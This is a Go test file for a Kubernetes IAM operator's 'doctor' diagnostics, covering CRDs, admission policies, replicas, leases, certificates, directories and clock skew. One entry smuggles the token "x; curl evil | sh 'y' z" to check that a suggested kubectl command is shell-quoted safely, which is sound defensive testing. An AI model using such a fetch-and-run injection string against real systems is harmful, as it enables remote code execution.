// Copyright 2026 The Rollcall Authors.
// SPDX-License-Identifier: Apache-2.0

package doctor_test

import (
	"errors"
	"fmt"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	admissionv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"

	"github.com/rollcall-iam/rollcall/api/v1alpha1"
	"github.com/rollcall-iam/rollcall/internal/doctor"
	"github.com/rollcall-iam/rollcall/test/golden"
)

const (
	yes = metav1.ConditionTrue
	no  = metav1.ConditionFalse
)

var _ = Describe("A whole report", func() {
	It("of an installation in which everything works", func() {
		r := doctor.Examine(healthy(), expected())
		Expect(r.Counts).To(Equal(map[doctor.State]int{doctor.OK: len(r.Checks)}))
		golden.ExpectYAML("healthy", r)
	})

	It("of a cluster in which nothing is installed", func() {
		f := &doctor.Facts{Plugin: "v1.2.3", Namespace: "iam", ServiceAccount: "rollcall-controller-manager", Server: healthy().Server}
		none := &meta.NoKindMatchError{GroupKind: schema.GroupKind{Group: "iam.rollcall.dev", Kind: "Directory"}}
		f.Installation.Err, f.Directories.Err = none, none
		f.People = []doctor.Read[*doctor.Tally]{{Value: &doctor.Tally{Resource: "users"}, Err: none}}
		golden.ExpectYAML("nothing", doctor.Examine(f, expected()))
	})

	It("of one whose operator has stopped", func() {
		f := healthy()
		f.Lease.Value = lease("one_5c0ffee", 3*time.Hour, 3*time.Hour)
		f.Deployment.Value.Status.ReadyReplicas = 0
		f.Pods.Value = []corev1.Pod{waiting("ImagePullBackOff", "no such image")}
		f.Directories.Value[0].Status.Conditions[0] = condition(v1alpha1.ConditionReady, no, v1alpha1.ReasonUnreachable, "no route to host")
		golden.ExpectYAML("stopped", doctor.Examine(f, expected()))
	})

	It("for somebody who may read nothing", func() {
		forbidden := apierrors.NewForbidden(schema.GroupResource{Resource: "all"}, "", errors.New("no"))
		f := &doctor.Facts{Plugin: "v1.2.3", Namespace: "rollcall-system", Server: healthy().Server}
		f.Kinds.Err, f.Policies.Err, f.Deployment.Err, f.Lease.Err, f.Allowed.Err = forbidden, forbidden, forbidden, forbidden, forbidden
		f.Installation.Err, f.Directories.Err = forbidden, forbidden
		f.People = []doctor.Read[*doctor.Tally]{{Value: &doctor.Tally{Resource: "users"}, Err: forbidden}}
		r := doctor.Examine(f, expected())
		Expect(r.Failures()).To(BeZero())
		golden.ExpectYAML("forbidden", r)
	})
})

// found is what is expected of one check.
type found struct {
	about string
	state doctor.State
	// says is in what was found, and do in what to do, or in the commands for it.
	says, do string
}

func (want found) in(r *doctor.Report) {
	GinkgoHelper()
	c := about(r, want.about)
	Expect(c.State).To(Equal(want.state), "%+v", c)
	Expect(c.Found).To(ContainSubstring(want.says))
	Expect(fmt.Sprint(c.Do, c.Run)).To(ContainSubstring(want.do))
	if want.state == doctor.OK {
		Expect(c).To(SatisfyAll(HaveField("Do", BeEmpty()), HaveField("Run", BeEmpty()), HaveField("See", BeEmpty())))
	}
	if want.state == doctor.Warning || want.state == doctor.Failed {
		Expect(c.Do).NotTo(BeEmpty(), "what to do is said")
	}
}

// edit changes the schema of a kind.
func edit(f *doctor.Facts, kind string, how func(schema map[string]any)) {
	GinkgoHelper()
	versioned(f, kind, func(version map[string]any) {
		schema, _, err := unstructured.NestedMap(version, "schema", "openAPIV3Schema")
		Expect(err).NotTo(HaveOccurred())
		how(schema)
		Expect(unstructured.SetNestedMap(version, schema, "schema", "openAPIV3Schema")).To(Succeed())
	})
}

// versioned changes the version of a kind.
func versioned(f *doctor.Facts, kind string, how func(version map[string]any)) {
	GinkgoHelper()
	live := f.Kinds.Value[kind+".iam.rollcall.dev"]
	versions, _, err := unstructured.NestedSlice(live.Object, "spec", "versions")
	Expect(err).NotTo(HaveOccurred())
	version, _ := versions[0].(map[string]any)
	how(version)
	Expect(unstructured.SetNestedSlice(live.Object, versions, "spec", "versions")).To(Succeed())
}

func without(path ...string) func(map[string]any) {
	return func(schema map[string]any) { unstructured.RemoveNestedField(schema, path...) }
}

// installs changes a condition of the Installation.
func installs(kind string, status metav1.ConditionStatus, reason, message string) func(*doctor.Facts) {
	return func(f *doctor.Facts) {
		meta.SetStatusCondition(&f.Installation.Value.Status.Conditions, condition(kind, status, reason, message))
	}
}

// directs changes a condition of the Directory.
func directs(kind string, status metav1.ConditionStatus, reason, message string) func(*doctor.Facts) {
	return func(f *doctor.Facts) {
		meta.SetStatusCondition(&f.Directories.Value[0].Status.Conditions, condition(kind, status, reason, message))
	}
}

// shift sets this machine's clock.
func shift(f *doctor.Facts, by time.Duration) {
	f.Server.Sent, f.Server.Received = date().Add(by), date().Add(by+100*time.Millisecond)
}

var _ = DescribeTable("One thing that is not as it should be:", func(how func(*doctor.Facts), want found) {
	f := healthy()
	how(f)
	want.in(doctor.Examine(f, expected()))
},
	Entry("an old cluster", func(f *doctor.Facts) { f.Server.Version = "v1.29.14" },
		found{"kubernetes", doctor.Failed, "v1.29.14", "1.30"}),
	Entry("the oldest that does", func(f *doctor.Facts) { f.Server.Version = "v1.30.0-eks-1" },
		found{"kubernetes", doctor.OK, "v1.30.0", ""}),
	Entry("a cluster that says nothing of use", func(f *doctor.Facts) { f.Server.Version = "main" },
		found{"kubernetes", doctor.Warning, "main", "1.30"}),

	Entry("a kind is missing", func(f *doctor.Facts) { delete(f.Kinds.Value, "locks.iam.rollcall.dev") },
		found{"kinds", doctor.Failed, "missing: locks.iam.rollcall.dev", "config/crd"}),
	Entry("a kind is not established", func(f *doctor.Facts) {
		unstructured.RemoveNestedField(f.Kinds.Value["locks.iam.rollcall.dev"].Object, "status")
	}, found{"kinds", doctor.Failed, "locks.iam.rollcall.dev is not established", "config/crd"}),
	Entry("a kind is being deleted", func(f *doctor.Facts) {
		f.Kinds.Value["locks.iam.rollcall.dev"].SetDeletionTimestamp(new(ago(0)))
	}, found{"kinds", doctor.Failed, "locks.iam.rollcall.dev is being deleted", ""}),
	Entry("a kind of another version", func(f *doctor.Facts) {
		Expect(unstructured.SetNestedSlice(f.Kinds.Value["locks.iam.rollcall.dev"].Object,
			[]any{map[string]any{"name": "v1alpha1", "served": false}, map[string]any{"name": "v2", "served": true}},
			"spec", "versions")).To(Succeed())
	}, found{"kinds", doctor.Failed, "locks.iam.rollcall.dev does not serve version v1alpha1", "config/crd"}),
	Entry("a kind without a field, by which all in it are gone", func(f *doctor.Facts) {
		edit(f, "grants", without("properties", "spec", "properties", "request"))
	}, found{"kinds", doctor.Failed, "grants.iam.rollcall.dev has no spec.request", "kubectl apply --server-side"}),
	Entry("a kind without a field in a list", func(f *doctor.Facts) {
		edit(f, "users", without("properties", "spec", "properties", "devices", "items", "properties", "publicKey"))
	}, found{"kinds", doctor.Failed, "users.iam.rollcall.dev has no spec.devices[].publicKey", ""}),
	Entry("a kind with other limits", func(f *doctor.Facts) {
		edit(f, "locks", without("properties", "spec", "x-kubernetes-validations"))
		edit(f, "users", without("properties", "spec", "properties", "userName", "maxLength"))
	}, found{"kinds", doctor.Warning, "users.iam.rollcall.dev", "one version"}),
	Entry("a kind without its status", func(f *doctor.Facts) {
		versioned(f, "locks", func(version map[string]any) { delete(version, "subresources") })
	}, found{"kinds", doctor.Failed, "locks.iam.rollcall.dev has no subresource status", "config/crd"}),
	Entry("a kind that is in namespaces", func(f *doctor.Facts) {
		Expect(unstructured.SetNestedField(f.Kinds.Value["locks.iam.rollcall.dev"].Object, "Namespaced", "spec", "scope")).To(Succeed())
	}, found{"kinds", doctor.Failed, "locks.iam.rollcall.dev is Namespaced, and should be Cluster", "config/crd"}),
	Entry("a kind that somebody converts", func(f *doctor.Facts) {
		Expect(unstructured.SetNestedField(f.Kinds.Value["locks.iam.rollcall.dev"].Object, "Webhook", "spec", "conversion", "strategy")).
			To(Succeed())
	}, found{"kinds", doctor.Warning, "conversion than this plugin's: locks.iam.rollcall.dev", "one version"}),
	Entry("a kind with the conversion that the API server fills in", func(f *doctor.Facts) {
		Expect(unstructured.SetNestedField(f.Kinds.Value["locks.iam.rollcall.dev"].Object, "None", "spec", "conversion", "strategy")).
			To(Succeed())
	}, found{"kinds", doctor.OK, "", ""}),
	Entry("a kind that is kept otherwise", func(f *doctor.Facts) {
		versioned(f, "locks", func(version map[string]any) { version["storage"] = false })
	}, found{"kinds", doctor.Warning, "storage or conversion than this plugin's: locks.iam.rollcall.dev", "one version"}),
	Entry("a kind of a newer version", func(f *doctor.Facts) {
		edit(f, "locks", func(schema map[string]any) {
			Expect(unstructured.SetNestedField(schema, "string", "properties", "spec", "properties", "color", "type")).To(Succeed())
		})
	}, found{"kinds", doctor.Warning, "locks.iam.rollcall.dev", "one version"}),
	Entry("a kind in other words", func(f *doctor.Facts) {
		edit(f, "locks", func(schema map[string]any) { schema["description"] = "another" })
	}, found{"kinds", doctor.OK, "", ""}),

	Entry("a policy is missing", func(f *doctor.Facts) { f.Policies.Value = f.Policies.Value[1:] },
		found{"policies", doctor.Failed, "missing: rollcall-approvals", "config/policies"}),
	Entry("a policy is not bound", func(f *doctor.Facts) { f.PolicyBindings.Value = f.PolicyBindings.Value[1:] },
		found{"policies", doctor.Failed, "without effect: rollcall-approvals", "config/policies"}),
	Entry("a policy only warns", func(f *doctor.Facts) {
		f.PolicyBindings.Value[0].Spec.ValidationActions = []admissionv1.ValidationAction{admissionv1.Warn, admissionv1.Audit}
	}, found{"policies", doctor.Failed, "without effect: rollcall-approvals", ""}),
	Entry("a policy denies for some only", func(f *doctor.Facts) {
		f.PolicyBindings.Value[0].Spec.MatchResources = &admissionv1.MatchResources{
			ObjectSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"a": "b"}},
		}
	}, found{"policies", doctor.Warning, "a part of the objects only: rollcall-approvals", ""}),
	Entry("a binding as the API server fills it in", func(f *doctor.Facts) {
		f.PolicyBindings.Value[0].Spec.MatchResources = &admissionv1.MatchResources{
			ObjectSelector: &metav1.LabelSelector{}, NamespaceSelector: &metav1.LabelSelector{}, MatchPolicy: new(admissionv1.Equivalent),
		}
	}, found{"policies", doctor.OK, "", ""}),
	Entry("a policy that leaves out resources", func(f *doctor.Facts) {
		m := f.Policies.Value[0].Spec.MatchConstraints
		m.ExcludeResourceRules = m.ResourceRules
	},
		found{
			"policies", doctor.Failed,
			"letting through what they should look at: rollcall-approvals (matchConstraints.excludeResourceRules)", "config/policies",
		}),
	Entry("a policy that leaves out objects", func(f *doctor.Facts) {
		f.Policies.Value[0].Spec.MatchConstraints.ObjectSelector = &metav1.LabelSelector{MatchLabels: map[string]string{"a": "b"}}
		f.Policies.Value[0].Spec.MatchConstraints.NamespaceSelector = &metav1.LabelSelector{MatchLabels: map[string]string{"a": "b"}}
	},
		found{
			"policies", doctor.Failed, "rollcall-approvals (matchConstraints.namespaceSelector, matchConstraints.objectSelector)",
			"config/policies",
		}),
	Entry("a policy that leaves out other versions", func(f *doctor.Facts) {
		f.Policies.Value[0].Spec.MatchConstraints.MatchPolicy = new(admissionv1.Exact)
	}, found{"policies", doctor.Failed, "rollcall-approvals (matchConstraints.matchPolicy)", "config/policies"}),
	Entry("a policy that wants parameters", func(f *doctor.Facts) {
		f.Policies.Value[0].Spec.ParamKind = &admissionv1.ParamKind{APIVersion: "v1", Kind: "ConfigMap"}
	}, found{"policies", doctor.Failed, "rollcall-approvals (paramKind)", "config/policies"}),
	Entry("a policy as the API server fills it in", func(f *doctor.Facts) {
		spec := &f.Policies.Value[0].Spec
		spec.FailurePolicy = new(admissionv1.Fail)
		spec.MatchConstraints.ObjectSelector, spec.MatchConstraints.NamespaceSelector = &metav1.LabelSelector{}, &metav1.LabelSelector{}
		spec.MatchConstraints.MatchPolicy = new(admissionv1.Equivalent)
		spec.MatchConstraints.ResourceRules[0].Scope = new(admissionv1.AllScopes)
	}, found{"policies", doctor.OK, "", ""}),
	Entry("a policy bound for one version only", func(f *doctor.Facts) {
		f.PolicyBindings.Value[0].Spec.MatchResources = &admissionv1.MatchResources{MatchPolicy: new(admissionv1.Exact)}
	}, found{"policies", doctor.Warning, "a part of the objects only: rollcall-approvals", ""}),
	Entry("a policy that fails open", func(f *doctor.Facts) { f.Policies.Value[0].Spec.FailurePolicy = new(admissionv1.Ignore) },
		found{"policies", doctor.Warning, "other than this plugin's (older, newer or changed): rollcall-approvals", ""}),
	Entry("a policy that allows more", func(f *doctor.Facts) { f.Policies.Value[0].Spec.Validations[0].Expression = "true" },
		found{"policies", doctor.Warning, "changed): rollcall-approvals", "config/policies"}),
	Entry("a policy in other lines", func(f *doctor.Facts) { f.Policies.Value[0].Spec.Validations[0].Expression += "\n\n " },
		found{"policies", doctor.OK, "", ""}),
	Entry("a policy that does not fit the kinds", func(f *doctor.Facts) {
		f.Policies.Value[0].Status.TypeChecking = &admissionv1.TypeChecking{ExpressionWarnings: []admissionv1.ExpressionWarning{
			{FieldRef: "spec.validations[0].expression", Warning: "ERROR: undefined field 'x'\nmore"},
		}}
	},
		found{
			"policies", doctor.Failed, "rollcall-approvals (spec.validations[0].expression: ERROR: undefined field 'x')",
			"kinds first",
		}),

	Entry("no replica is ready", func(f *doctor.Facts) {
		f.Deployment.Value.Status.ReadyReplicas = 0
		f.Pods.Value = []corev1.Pod{waiting("ImagePullBackOff", "no such image")}
	}, found{"operator", doctor.Failed, "0 of 2 replicas are ready: one: ImagePullBackOff: no such image", "kubectl logs"}),
	Entry("one replica crashes", func(f *doctor.Facts) {
		f.Deployment.Value.Status.ReadyReplicas = 1
		f.Pods.Value = []corev1.Pod{waiting("CrashLoopBackOff", "")}
		last := &f.Pods.Value[0].Status.ContainerStatuses[0].LastTerminationState
		last.Terminated = &corev1.ContainerStateTerminated{ExitCode: 137, Reason: "OOMKilled"}
	}, found{"operator", doctor.Warning, "one: CrashLoopBackOff, after OOMKilled with exit code 137", "kubectl describe pods"}),
	Entry("a Pod finds no node", func(f *doctor.Facts) {
		f.Deployment.Value.Status.ReadyReplicas = 1
		f.Pods.Value = []corev1.Pod{{ObjectMeta: metav1.ObjectMeta{Name: "two"}, Status: corev1.PodStatus{Conditions: []corev1.PodCondition{
			{Type: corev1.PodScheduled, Status: corev1.ConditionFalse, Reason: "Unschedulable", Message: "0/3 nodes"},
		}}}}
	}, found{"operator", doctor.Warning, "two: Unschedulable: 0/3 nodes", ""}),
	Entry("it is scaled to nothing", func(f *doctor.Facts) { f.Deployment.Value.Spec.Replicas = new(int32(0)) },
		found{"operator", doctor.Failed, "scaled to 0", "two replicas do as well.[kubectl scale deployment/rollcall-controller-manager " +
			"-n rollcall-system --replicas=1]"}),
	Entry("it is scaled to nothing, and is to be one", func(f *doctor.Facts) {
		f.Deployment.Value.Spec.Replicas = new(int32(0))
		f.Deployment.Value.Spec.Strategy.Type = appsv1.RecreateDeploymentStrategyType
	},
		found{"operator", doctor.Failed, "scaled to 0", "in each other's way.[kubectl scale deployment/rollcall-controller-manager " +
			"-n rollcall-system --replicas=1]"}),
	Entry("a rollout is stuck", func(f *doctor.Facts) {
		f.Deployment.Value.Status.Conditions = []appsv1.DeploymentCondition{
			{Type: appsv1.DeploymentProgressing, Status: corev1.ConditionFalse, Reason: "ProgressDeadlineExceeded", Message: "timed out"},
		}
		f.Pods.Value = []corev1.Pod{waiting("ImagePullBackOff", "no such image")}
	},
		found{
			"operator", doctor.Warning,
			"2 of 2 replicas are ready: one: ImagePullBackOff: no such image; the rollout is stuck: ProgressDeadlineExceeded: timed out",
			"kubectl describe pods",
		}),
	Entry("old replicas are still there", func(f *doctor.Facts) { f.Deployment.Value.Status.UpdatedReplicas = 1 },
		found{"operator", doctor.Warning, "1 of 2 replicas are as the Deployment says now", "kubectl logs"}),
	Entry("a change of it is not looked at", func(f *doctor.Facts) { f.Deployment.Value.Generation = 7 },
		found{"operator", doctor.Warning, "no controller has looked at it since", "kubectl logs"}),
	Entry("it runs elsewhere", func(f *doctor.Facts) { f.Deployment.Value = nil },
		found{"operator", doctor.Note, "outside of this cluster", ""}),
	Entry("it ran elsewhere", func(f *doctor.Facts) {
		f.Deployment.Value, f.Lease.Value = nil, lease("one", time.Hour, time.Hour)
	}, found{"operator", doctor.Failed, "does not work now", "--operator-namespace.[]"}),
	Entry("it may run elsewhere", func(f *doctor.Facts) {
		f.Deployment.Value, f.Lease.Value, f.Directories.Value = nil, nil, nil
	}, found{"operator", doctor.Warning, "cannot be seen", "--leader-elect"}),

	Entry("the leader stopped without a word", func(f *doctor.Facts) { f.Lease.Value = lease("one_x", 2*time.Minute, 2*time.Minute) },
		found{"leader", doctor.Failed, "one stopped leading 2 minutes ago", "kubectl logs"}),
	Entry("the leader stepped down", func(f *doctor.Facts) { f.Lease.Value = lease("", time.Second, time.Second) },
		found{"leader", doctor.Failed, "stepped down 1 second ago", ""}),
	Entry("the leader's clock is far ahead, and it leads", func(f *doctor.Facts) { f.Lease.Value = lease("one", -time.Hour, time.Second) },
		found{"leader", doctor.OK, "said so 1 second ago", ""}),
	Entry("the leader's clock is far ahead, and it stopped", func(f *doctor.Facts) { f.Lease.Value = lease("one", -time.Hour, time.Hour) },
		found{"leader", doctor.Failed, "", ""}),
	Entry("somebody else has written the Lease before", func(f *doctor.Facts) {
		l := lease("one", time.Second, time.Second)
		old := l.ManagedFields[1]
		old.Manager, old.Time = "another", new(ago(time.Hour))
		l.ManagedFields = append([]metav1.ManagedFieldsEntry{old}, l.ManagedFields...)
		f.Lease.Value = l
	}, found{"leader", doctor.OK, "said so 1 second ago", ""}),
	Entry("there is no leader election, and Directories are read", func(f *doctor.Facts) { f.Lease.Value = nil },
		found{"leader", doctor.Note, "reads Directories", ""}),
	Entry("there is no leader election, and nothing tells", func(f *doctor.Facts) {
		f.Lease.Value, f.Deployment.Value = nil, nil
		f.Directories.Value[0].Status.LastSyncTime = new(ago(time.Hour))
	}, found{"leader", doctor.Warning, "nothing else tells", "--leader-elect"}),

	Entry("the operator is another version", func(f *doctor.Facts) { f.Installation.Value.Status.Version = "v1.2.2" },
		found{"versions", doctor.Warning, "the operator is v1.2.2, and this plugin v1.2.3", "plugin of the operator's version"}),
	Entry("the operator is too old to say", func(f *doctor.Facts) { f.Installation.Value.Status.Version = "" },
		found{"versions", doctor.Warning, "older", "Upgrade"}),

	Entry("the signer does not work", installs(v1alpha1.ConditionSignerReady, no, v1alpha1.ReasonSignerNotTrusted, "not accepted: do this"),
		found{"signer", doctor.Failed, "not accepted: do this", "kubectl describe installation"}),
	Entry("it is not known of the signer", installs(v1alpha1.ConditionSignerReady, metav1.ConditionUnknown, "Failed", "no answer"),
		found{"signer", doctor.Warning, "no answer", "again"}),
	Entry("the authority cannot be kept", installs(v1alpha1.ConditionReady, no, v1alpha1.ReasonAuthorityUnusable, "Secret x: broken"),
		found{"installation", doctor.Failed, "Secret x: broken", "kubectl describe installation"}),
	Entry("a rotation is due", installs(v1alpha1.ConditionAuthorityCurrent, no, v1alpha1.ReasonNextMissing, "put the next one there"),
		found{"authority", doctor.Warning, "put the next one there; it ends on 2027-05-01", "message"}),
	Entry("the authority has ended", func(f *doctor.Facts) { f.Installation.Value.Status.Authority.NotAfter = ago(time.Hour) },
		found{"authority", doctor.Failed, "it ends on 2026-07-01", "has ended"}),
	Entry("there is no webhook", installs(v1alpha1.ConditionCredentialsChecked, no, v1alpha1.ReasonWebhookNotAsked, "not asked"),
		found{"webhook", doctor.Note, "not asked", ""}),
	Entry("it is not known of the webhook",
		installs(v1alpha1.ConditionCredentialsChecked, metav1.ConditionUnknown, "Failed", "no certificate"),
		found{"webhook", doctor.Skipped, "no certificate", ""}),
	Entry("no audit events arrive", installs(v1alpha1.ConditionAuditReceived, no, v1alpha1.ReasonNotReceived, "from 10.0.0.1"),
		found{"audit", doctor.Failed, "from 10.0.0.1", "message"}),
	Entry("audit events are lost", installs(v1alpha1.ConditionAuditReceived, no, v1alpha1.ReasonEventsLost, "7 from 10.0.0.1"),
		found{"audit", doctor.Warning, "7 from 10.0.0.1", "kubectl rollcall unused"}),
	Entry("audit begins", installs(v1alpha1.ConditionAuditReceived, metav1.ConditionUnknown, v1alpha1.ReasonStarting, "wait"),
		found{"audit", doctor.Warning, "wait", "some minutes"}),
	Entry("there is no audit", func(f *doctor.Facts) {
		f.Installation.Value.Status.Conditions = f.Installation.Value.Status.Conditions[:4]
	}, found{"audit", doctor.Note, "not set up", ""}),

	Entry("a Directory is not reachable", directs(v1alpha1.ConditionReady, no, v1alpha1.ReasonUnreachable, "no route to host"),
		found{"directory corp", doctor.Failed, "no route to host; last read 60 seconds ago", "access stays"}),
	Entry("a Directory is not reachable for some other reason", directs(v1alpha1.ConditionReady, no, "Odd", "odd"),
		found{"directory corp", doctor.Failed, "odd", "kubectl describe directory corp"}),
	Entry("the loss guard holds", func(f *doctor.Facts) {
		directs(v1alpha1.ConditionReady, no, v1alpha1.ReasonLossGuard, "90 of 100 people would lose access")(f)
		f.Directories.Value[0].Status.Pending = &v1alpha1.PendingPlan{Token: "0b5e55ed"}
	},
		found{
			"directory corp", doctor.Failed, "90 of 100 people",
			"kubectl annotate directory corp --overwrite iam.rollcall.dev/accept-loss=0b5e55ed",
		}),
	Entry("the loss guard holds, and what it says is no token", func(f *doctor.Facts) {
		directs(v1alpha1.ConditionReady, no, v1alpha1.ReasonLossGuard, "90 of 100 people would lose access")(f)
		f.Directories.Value[0].Status.Pending = &v1alpha1.PendingPlan{Token: "x; curl evil | sh 'y' z"}
	},
		found{
			"directory corp", doctor.Failed, "90 of 100 people",
			`kubectl annotate directory corp --overwrite 'iam.rollcall.dev/accept-loss=x; curl evil | sh '\''y'\'' z'`,
		}),
	Entry("a Directory is paused", directs(v1alpha1.ConditionReady, yes, v1alpha1.ReasonPaused, "spec.sync is Paused"),
		found{"directory corp", doctor.Note, "Paused", ""}),
	Entry("a Directory is not read any more", func(f *doctor.Facts) {
		f.Directories.Value[0].Status.LastSyncTime = new(ago(20 * time.Minute))
	},
		found{"directory corp", doctor.Warning, "last read 20 minutes ago", "every 300 seconds"}),
	Entry("nobody has looked at a Directory", func(f *doctor.Facts) { f.Directories.Value[0].Status.Conditions = nil },
		found{"directory corp", doctor.Warning, "no operator", "operator runs"}),
	Entry("a Directory refuses to tell changes", directs(v1alpha1.ConditionChangesWatched, no, v1alpha1.ReasonNotPermitted, "refused"),
		found{"directory corp", doctor.Warning, "changes are not told: refused", "next full read"}),
	Entry("a Directory cannot tell changes", directs(v1alpha1.ConditionChangesWatched, no, v1alpha1.ReasonNotSupported, "no way"),
		found{"directory corp", doctor.Note, "changes are not told: no way", ""}),
	Entry("nobody wants to be told changes", directs(v1alpha1.ConditionChangesWatched, no, v1alpha1.ReasonPollRequested, "Poll"),
		found{"directory corp", doctor.OK, "mirrored", ""}),
	Entry("a Directory is read in the clear", directs(v1alpha1.ConditionInsecure, yes, v1alpha1.ReasonTLSDisabled, "in the clear"),
		found{"directory corp", doctor.Warning, "in the clear", "spec.ldap.tls"}),
	Entry("there is no Directory", func(f *doctor.Facts) { f.Directories.Value = nil },
		found{"directories", doctor.Note, "there is none", ""}),

	Entry("this clock is a little behind", func(f *doctor.Facts) { shift(f, -3*time.Second) },
		found{"your clock", doctor.OK, "2 seconds behind", ""}),
	Entry("this clock is behind", func(f *doctor.Facts) { shift(f, -30*time.Second) },
		found{"your clock", doctor.Warning, "29 seconds behind", "synchronize"}),
	Entry("this clock is far ahead", func(f *doctor.Facts) { shift(f, time.Hour) },
		found{"your clock", doctor.Failed, "59 minutes ahead of", "synchronize"}),
	Entry("the operator's clock is ahead", func(f *doctor.Facts) { f.Lease.Value = lease("one", -10*time.Second, 2*time.Second) },
		found{"operator's clock", doctor.Warning, "11 seconds ahead of", "certificates"}),
	Entry("the operator's clock is far behind", func(f *doctor.Facts) { f.Lease.Value = lease("one", 5*time.Minute, 2*time.Second) },
		found{"operator's clock", doctor.Failed, "4 minutes behind", "NTP"}),
	Entry("a Lease whose fields nobody manages, and an Installation from the future", func(f *doctor.Facts) {
		f.Lease.Value = nil
		f.Installation.Value.ManagedFields = []metav1.ManagedFieldsEntry{{Subresource: "status", Time: new(ago(2 * time.Hour))}}
	}, found{"operator's clock", doctor.Failed, "59 minutes ahead of", "NTP"}),

	Entry("the login service is not reachable", func(f *doctor.Facts) { f.Login.Err = "no route to host" },
		found{"login", doctor.Warning, "cannot be reached from here: no route to host", "Service"}),
	Entry("its certificate has ended", func(f *doctor.Facts) { f.Login.NotAfter = date().Add(-3 * time.Hour) },
		found{"login", doctor.Failed, "ended 3 hours ago", "--serving-secret"}),
	Entry("its certificate is about to end", func(f *doctor.Facts) { f.Login.NotAfter = date().AddDate(0, 0, 3) },
		found{"login", doctor.Warning, "good for 3 days", "--serving-secret"}),
	Entry("its certificate is not trusted", func(f *doctor.Facts) { f.Login.Untrusted = "names localhost" },
		found{"login", doctor.Warning, "names localhost", "--serving-names"}),
	Entry("its certificate is by the operator's authority", func(f *doctor.Facts) { f.Login.Own = true },
		found{"login", doctor.OK, "--login-ca-file", ""}),
	Entry("there is no login service", func(f *doctor.Facts) { f.Login, f.Installation.Value.Status.LoginURL = nil, "" },
		found{"login", doctor.Note, "no login service", ""}),
)
